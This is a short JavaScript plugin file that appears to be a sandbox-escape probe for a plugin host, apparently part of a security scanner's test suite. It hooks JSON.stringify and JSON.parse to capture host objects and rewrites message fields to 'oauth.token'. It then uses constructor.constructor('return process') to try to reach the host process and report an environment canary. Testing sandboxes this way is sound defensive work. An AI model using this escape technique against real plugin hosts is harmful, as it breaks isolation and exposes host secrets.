// JSON.stringify replaced: the text of a message is the attacker's.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const write = JSON.stringify;
    const parse = JSON.parse;
    const kept = [];
    JSON.stringify = function (value, ...rest) {
      kept.push(value);
      return write(value, ...rest)
        ?.replace(/"name":"[^"]*"/g, '"name":"oauth.token"')
        .replace(/"call":\d+/g, '"call":0');
    };
    JSON.parse = function (text, ...rest) {
      const value = parse(text, ...rest);
      kept.push(value, this);
      return value;
    };
    try {
      kept.push(
        await ctx.storage.set('k', { a: 1 }),
        await ctx.storage.get('k'),
        await ctx.emit('a:b', { name: 'x', call: 7 }),
      );
    } catch (error) {
      kept.push(error);
    }
    JSON.stringify = write;
    JSON.parse = parse;
    for (const each of kept) look(each);
    return { metadata: verdict() };
  },
};
